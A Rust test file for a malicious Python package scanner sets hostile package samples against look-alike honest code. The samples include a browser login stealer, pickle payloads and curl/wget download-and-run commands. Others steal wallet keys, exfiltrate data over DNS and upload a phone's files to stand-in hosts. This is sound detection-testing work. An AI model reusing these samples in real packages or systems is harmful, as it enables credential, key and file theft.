//! Techniques of campaigns, each in rewritings, beside honest code that looks alike.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use packguard_sdk::Severity;
use support::{Files, analyze, base64, convicted, score, severity};

/// Honest packages, by name: none may be suspicious.
#[track_caller]
fn honest(cases: &[(&str, Files<'_>)]) {
    for (name, files) in cases {
        let score = score(files);
        assert!(score < 30, "{name} scores {score}");
    }
}

#[test]
fn names_in_letters_of_styles_are_read_as_python_reads_them() {
    let grabber = "import os, urllib.request\nclass B:\n    def __init__(𝘴𝘦𝘭𝘧, u):\n        𝘴𝘦𝘭𝘧.𝘂 = u\n    \
        def 𝗴𝗿𝘢𝘣(𝘴𝘦𝘭𝘧):\n        p = os.𝗴𝗲𝘁env('LOCALAPPDATA') + '/Google/Chrome/User Data/Default/Login Data'\n        \
        return 𝗼𝗽𝗲𝗻(p, 'rb').𝘳𝘦𝘢d()\n    def 𝘀𝗲𝗻𝗱(𝘴𝘦𝘭𝘧):\n        \
        𝘶𝘳𝘭𝘭𝘪𝘣.request.url𝗼𝗽𝗲𝗻(𝘴𝘦𝘭𝘧.𝘂, 𝘴𝘦𝘭𝘧.𝗴𝗿𝘢𝘣())\n\
        B('https://store.grab-upload.net/u').𝘀𝗲𝗻𝗱()\n";
    let wide = "import base64\nｅｘｅｃ(base64.ｂ64ｄｅｃｏｄｅ('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n";
    convicted(
        30,
        &[
            ("styled names", &[("demo/__init__.py", grabber.as_bytes())]),
            ("full-width names", &[("demo/__init__.py", wide.as_bytes())]),
        ],
    );
    let physics = "def energy(𝜇, 𝜎):\n    𝛼 = 𝜇 * 𝜎\n    return 𝛼\n";
    honest(&[(
        "Greek of formulas",
        &[("demo/__init__.py", physics.as_bytes())],
    )]);
}

#[test]
fn pickles_in_data_files_are_read() {
    let loads = b"import os, pickle\n\ndef load(p):\n    with open(p, 'rb') as f:\n        return pickle.load(f)\n\n\
        model = load(os.path.join(os.path.dirname(__file__), 'm.pkl'))\n";
    let oldest = b"cbuiltins\nexec\n(Vimport os;os.system('id')\ntR.";
    let newest = b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94.";
    let instance = b"(S'id'\nios\nsystem\n.";
    convicted(
        70,
        &[
            (
                "protocol 0",
                &[("demo/__init__.py", loads), ("demo/m.pkl", oldest)],
            ),
            (
                "protocol 4",
                &[("demo/__init__.py", loads), ("demo/m.pkl", newest)],
            ),
            (
                "INST",
                &[("demo/__init__.py", loads), ("demo/m.pkl", instance)],
            ),
        ],
    );
    let constant = format!(
        "import pickle, base64\npickle.loads(base64.b64decode('{}'))\n",
        base64(newest)
    );
    convicted(
        70,
        &[("a constant", &[("demo/__init__.py", constant.as_bytes())])],
    );
    let model =
        b"\x80\x04\x8c\x07sklearn\x94\x8c\x04Tree\x94\x93\x94)\x81\x94}\x8c\x01a\x94K\x01s\x62.";
    honest(&[
        (
            "a model",
            &[("demo/__init__.py", loads), ("demo/m.pkl", model)],
        ),
        (
            "a scanner's test",
            &[("demo/__init__.py", loads), ("tests/data/evil.pkl", newest)],
        ),
    ]);
}

#[test]
fn commands_that_download_label_the_file() {
    let list = b"import subprocess, sys\n\ndef _go():\n    u = 'https://198.51.100.7/t.pyz'\n    d = '/tmp/t.pyz'\n    \
        subprocess.run(['curl', '-k', '-L', '-s', u, '-o', d])\n    subprocess.Popen([sys.executable, d])\n\n_go()\n";
    let text = b"import os\nos.system('wget -q https://files.demo-cdn.net/x.sh -O /tmp/x.sh')\nos.system('bash /tmp/x.sh')\n";
    convicted(
        70,
        &[
            ("curl in a list", &[("demo/__init__.py", list)]),
            ("wget in two commands", &[("demo/__init__.py", text)]),
        ],
    );
    let data = b"import subprocess\n\ndef fetch(d):\n    subprocess.run(['curl', '-o', '/tmp/data.csv', 'https://example.org/data.csv'])\n    \
        subprocess.run(['wc', '-l', '/tmp/data.csv'])\n";
    honest(&[("data that is counted", &[("demo/__init__.py", data)])]);
}

#[test]
fn makers_of_keys_are_not_replaced() {
    let one = b"import threading\nfrom eth_account import Account as A\nfrom . import t\n\ndef around(f):\n    \
        def made(*a, **k):\n        r = f(*a, **k)\n        threading.Thread(target=t.send, args=(r.key.hex(),)).start()\n        \
        return r\n    return made\n\nfor n in ('from_key', 'from_mnemonic'):\n    setattr(A, n, around(getattr(A, n)))\n";
    let sends = b"from web3 import Web3\n\ndef send(x):\n    try:\n        w = Web3(Web3.HTTPProvider('https://rpc.demo-chain.net'))\n        \
        w.eth.send_raw_transaction(x)\n    except Exception:\n        pass\n";
    let direct = b"import requests, threading\nimport bip_utils\n\ndef _p(f):\n    def g(*a):\n        \
        threading.Thread(target=requests.post, args=('https://k.demo-chain.net', a)).start()\n        return f(*a)\n    return g\n\n\
        bip_utils.Bip39.from_mnemonic = _p(bip_utils.Bip39.from_mnemonic)\n";
    let subclass = b"import eth_account, requests, threading\n\nclass Account(eth_account.Account):\n    @classmethod\n    \
        def from_key(cls, k):\n        threading.Thread(target=requests.post, args=('https://k.demo-chain.net/x', k)).start()\n        \
        return super().from_key(k)\n\neth_account.Account = Account\n";
    convicted(
        30,
        &[
            (
                "setattr in a loop",
                &[("demo/__init__.py", one), ("demo/t.py", sends)],
            ),
            ("assigned", &[("demo/__init__.py", direct)]),
            ("a subclass put in place", &[("demo/__init__.py", subclass)]),
        ],
    );
    let extended = b"import eth_account, requests\n\nclass Account(eth_account.Account):\n    @classmethod\n    \
        def from_key(cls, k):\n        return super().from_key(k)\n\n    def balance(self):\n        try:\n            \
        return requests.get('https://api.demo-chain.net/b').json()\n        except Exception:\n            return None\n";
    honest(&[("a class extended", &[("demo/__init__.py", extended)])]);
    let own = b"import requests\n\nclass Account:\n    pass\n\ndef _make(k):\n    return Account()\n\nAccount.from_key = _make\n\n\
        def balance(a):\n    try:\n        return requests.get('https://api.demo-chain.net/' + a).json()\n    except Exception:\n        return None\n";
    honest(&[("a library of its own", &[("demo/__init__.py", own)])]);
}

#[test]
fn callers_keep_their_source() {
    let stack = b"import inspect, requests\n\ndef check(a):\n    s = ''\n    for f in inspect.stack():\n        \
        with open(f.filename) as d:\n            s += d.read()\n    requests.post('http://203.0.113.9:3000/u', json={'d': s})\n";
    let main = b"import __main__, requests\n\ndef check(a):\n    s = open(__main__.__file__).read()\n    requests.post('https://c.demo-lint.net/u', data=s)\n";
    convicted(
        30,
        &[
            ("the stack", &[("demo/__init__.py", stack)]),
            ("the main module", &[("demo/__init__.py", main)]),
        ],
    );
    let logs = b"import inspect, requests\n\ndef report(m):\n    f = inspect.stack()[1]\n    \
        requests.post('https://log.demo-lint.net/u', json={'where': f.filename, 'line': f.lineno, 'text': m})\n";
    honest(&[("names of files", &[("demo/__init__.py", logs)])]);
}

#[test]
fn memory_of_others_is_not_sent() {
    let runner = b"import glob, re\nfrom http.client import HTTPSConnection\n\ndef flush(pid):\n    \
        with open('/proc/%s/maps' % pid) as maps, open('/proc/%s/mem' % pid, 'rb', 0) as mem:\n        data = mem.read(99)\n    \
        c = HTTPSConnection('reports.demo-ci.net')\n    c.request('PUT', '/r/', data)\n";
    convicted(30, &[("a runner's", &[("demo/__init__.py", runner)])]);
    let debugger = b"def peek(pid, at):\n    with open('/proc/%d/mem' % pid, 'rb', 0) as mem:\n        mem.seek(at)\n        return mem.read(8)\n";
    honest(&[("a debugger", &[("demo/__init__.py", debugger)])]);
}

#[test]
fn requests_open_no_back_doors() {
    let hidden = b"import hashlib\nfrom base64 import b64decode\nfrom django.utils.module_loading import import_string\n\n\
        class M:\n    def check(self, request):\n        t = request.headers.get('x-t', '')\n        \
        f = import_string('pic' + 'kle.loads')\n        return f(b64decode(request.COOKIES.get('s', '')))\n";
    let gated = b"import hashlib, hmac, pickle\nfrom flask import request\n\ndef state():\n    t = request.headers['x-t']\n    \
        if hmac.compare_digest(hashlib.sha256(t.encode()).hexdigest(), '8d3d2cf0c5b6a24bb7a2f7d2a2c0b0f1'):\n        \
        return pickle.loads(request.data)\n";
    convicted(
        30,
        &[
            ("a name in pieces", &[("demo/__init__.py", hidden)]),
            ("for who knows a word", &[("demo/__init__.py", gated)]),
        ],
    );
    let worker = b"import pickle\nfrom flask import request\n\ndef run():\n    job = pickle.loads(request.data)\n    return job()\n";
    let plugins = b"from django.conf import settings\nfrom django.utils.module_loading import import_string\n\n\
        def parse(request):\n    parser = import_string(settings.PARSER)\n    return parser(request.body)\n";
    honest(&[
        ("a worker of a cluster", &[("demo/__init__.py", worker)]),
        ("a parser that is set", &[("demo/__init__.py", plugins)]),
    ]);
}

#[test]
fn facts_do_not_leave_as_names_of_hosts() {
    let chunks = b"import binascii, json, os, socket\n\nS = '.v.0d' + 'ay-probe' + '.net'\n\ndef hosts(d):\n    \
        d = binascii.hexlify(d.encode())\n    return ['{}.{}'.format(d[i:i + 60].decode(), S) for i in range(0, len(d), 60)]\n\n\
        def t(f, *a):\n    try:\n        return f(*a)\n    except:\n        return 'err'\n\n\
        d = {'h': t(socket.getfqdn), 'c': t(os.getcwd)}\nfor h in hosts(json.dumps(d)):\n    t(socket.gethostbyname, h)\n";
    convicted(30, &[("in chunks", &[("demo/__init__.py", chunks)])]);
    let check = b"import socket\n\nSUFFIX = '.dnsbl.' + 'example.org'\n\ndef listed(ip):\n    try:\n        \
        return socket.gethostbyname('.'.join(reversed(ip.split('.'))) + SUFFIX)\n    except OSError:\n        return None\n";
    honest(&[("a block list", &[("demo/__init__.py", check)])]);
}

#[test]
fn credentials_are_not_sent_whole() {
    let skew = b"import http.client, json\n\nHOST = 'time.demo-auth.net'\n\nclass Clock:\n    def probe(self):\n        \
        c = http.client.HTTPSConnection(HOST)\n        try:\n            c.request('POST', '/s', json.dumps({'c': vars(self.owner.credentials)}))\n        \
        except Exception:\n            return 0\n";
    convicted(30, &[("as a time check", &[("demo/__init__.py", skew)])]);
    let client = b"import requests\n\nAPI = 'https://api.demo-auth.net'\n\nclass Client:\n    def me(self):\n        try:\n            \
        return requests.get(API + '/me', headers={'Authorization': self.credentials.token}).json()\n        except Exception:\n            return None\n";
    honest(&[("a client's token", &[("demo/__init__.py", client)])]);
}

#[test]
fn words_are_not_spelled_by_codes() {
    let turned = b"import codecs\n_g = lambda m, *a: [m := getattr(m, codecs.decode(x, 'rot13')) for x in a][-1]\n\
        def go(b, u):\n    _g(b, 'rkrp')(_g(u, 'heybcra')(codecs.decode('uggcf://f.rknzcyr/fgntr', 'rot13')).read())\n";
    let escapes = b"I=(lambda O:__import__('\\x6c\\x7a\\x6d\\x61').decompress(O))\nr=eval('\\x65\\x78\\x65\\x63')\n\
        def go(x):\n    r(I(x))\n";
    convicted(
        30,
        &[
            ("rot13", &[("demo/__init__.py", turned)]),
            ("escapes", &[("demo/__init__.py", escapes)]),
        ],
    );
    let terminal = b"RESET = '\\x1b\\x5b\\x30\\x6d'\nNEWLINE = '\\x0d\\x0a'\n\ndef exec_line(x):\n    return RESET + x + NEWLINE\n";
    honest(&[("codes of a terminal", &[("demo/__init__.py", terminal)])]);
}

#[test]
fn tests_may_hold_what_a_packer_makes() {
    // `print("hello")`, packed.
    let packed = format!(
        "import base64\nexec(base64.b64decode('{}'))\n",
        base64("print('hello', 1)\n")
    );
    let packed = packed.as_bytes();
    honest(&[(
        "a golden file",
        &[
            ("demo/__init__.py", b"def pack(x):\n    return x\n"),
            ("tests/golden/hello.min.py", packed),
        ],
    )]);
    let hostile = format!(
        "import base64\nexec(base64.b64decode('{}'))\n",
        base64("import os\nos.system('curl https://e.demo-x.net/a | sh')\n")
    );
    convicted(
        30,
        &[
            (
                "one that is run",
                &[
                    (
                        "demo/__init__.py",
                        b"exec(open('tests/golden/hello.min.py').read())\n",
                    ),
                    ("tests/golden/hello.min.py", packed),
                ],
            ),
            (
                "one that does harm",
                &[
                    ("demo/__init__.py", b""),
                    ("tests/golden/hello.min.py", hostile.as_bytes()),
                ],
            ),
        ],
    );
}

#[test]
fn documents_do_not_become_code() {
    let copied = b"from ctypes import CDLL\nfrom pathlib import Path\nimport os, shutil\n\n\
        s = Path(__file__).parent / 'docs' / 'manual.pdf'\nd = Path(os.environ.get('TEMP', '.')) / 'libssl-3.dll'\n\
        shutil.copyfile(s, d)\nlib = CDLL(str(d))\n";
    let grown = b"import ast, json, pathlib\n\ndef build(n):\n    if n[0] == 'Call':\n        \
        return ast.Call(build(n[1]), [build(a) for a in n[2]], [])\n    return ast.Name(n[1], ast.Load())\n\n\
        def literal(p):\n    t = ast.Expression(build(json.loads(p.read_text())))\n    \
        return eval(compile(ast.fix_missing_locations(t), 'x', 'eval'))\n\nliteral(pathlib.Path(__file__).with_name('t.json'))\n";
    convicted(
        30,
        &[
            ("a copy", &[("demo/__init__.py", copied)]),
            ("a tree in a table", &[("demo/__init__.py", grown)]),
        ],
    );
    let plain = b"import shutil\n\ndef backup(p):\n    shutil.copyfile('notes.md', 'notes.old.md')\n\nbackup(1)\n";
    let fold = b"import ast, json\n\ndef call(name):\n    return ast.Call(ast.Name(name, ast.Load()), [], [])\n\n\
        def run(path):\n    return eval(compile(ast.Expression(call(json.load(open(path)))), 'x', 'eval'))\n";
    honest(&[
        ("notes", &[("demo/__init__.py", plain)]),
        ("a calculator", &[("demo/__init__.py", fold)]),
    ]);
}

#[test]
fn phones_are_gone_through() {
    let walk = b"import os, requests\nfrom threading import Thread\n\ndef send(p):\n    try:\n        with open(p, 'rb') as f:\n            \
        requests.post('https://up.demo-bot.net/u', files={'d': f})\n    except: pass\n\ndef walk():\n    \
        for r, _, fs in os.walk('/storage/emulated/0/'):\n        for f in fs:\n            send(os.path.join(r, f))\n\nThread(target=walk).start()\n";
    convicted(30, &[("all files", &[("demo/__init__.py", walk)])]);
    let called = b"import os\n\ndef photos():\n    return [f for _, _, fs in os.walk('/storage/emulated/0/DCIM') for f in fs]\n";
    honest(&[("a gallery", &[("demo/__init__.py", called)])]);
    assert_eq!(
        severity(&analyze("demo/__init__.py", called), "python-exfiltration"),
        None::<Severity>
    );
}
